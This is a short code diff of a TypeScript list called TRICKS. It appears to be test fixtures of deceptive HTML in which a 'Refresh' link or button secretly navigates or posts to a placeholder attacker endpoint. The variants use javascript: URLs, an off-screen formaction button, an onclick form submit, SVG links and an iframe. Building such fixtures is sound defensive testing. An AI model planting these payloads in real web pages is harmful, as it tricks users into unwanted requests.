@@ -29,7 +29,7 @@ const TRICKS: readonly string[] = [
   `<div id="hold"></div><script>hold.innerHTML = \`<a id="act" href="ht\\ntp:\${EVIL.slice(5)}/do/harm">Refresh</a>\`</script>`,
   link("javascript:void(location=EVIL+'/do/harm')"),
   `<svg width="90" height="30"><a id="act" xlink:href="${HARM}" href="${HARM}" tabindex="0"><text y="20">Refresh</text></a></svg>`,
-  `<img src="data:," usemap="#m" width="90" height="30" alt=""><map name="m"><area id="act" shape="rect" coords="0,0,90,30" href="${HARM}" alt="Refresh"></map>`,
+  `<form id="f" action="${HARM}" method="post">${FIELD}</form><a id="act" href="#" onclick="f.submit(); return false">Refresh</a>`,
   `<form action="{app}/do/keep">${FIELD}<label>Town <input id="town"></label><button id="first" formaction="${HARM}" style="position:absolute;left:-999px">x</button><button id="act">Refresh</button></form>`,
   `<iframe title="Help" src="{evil}/frame" width="300" height="80"></iframe>`,
 ];
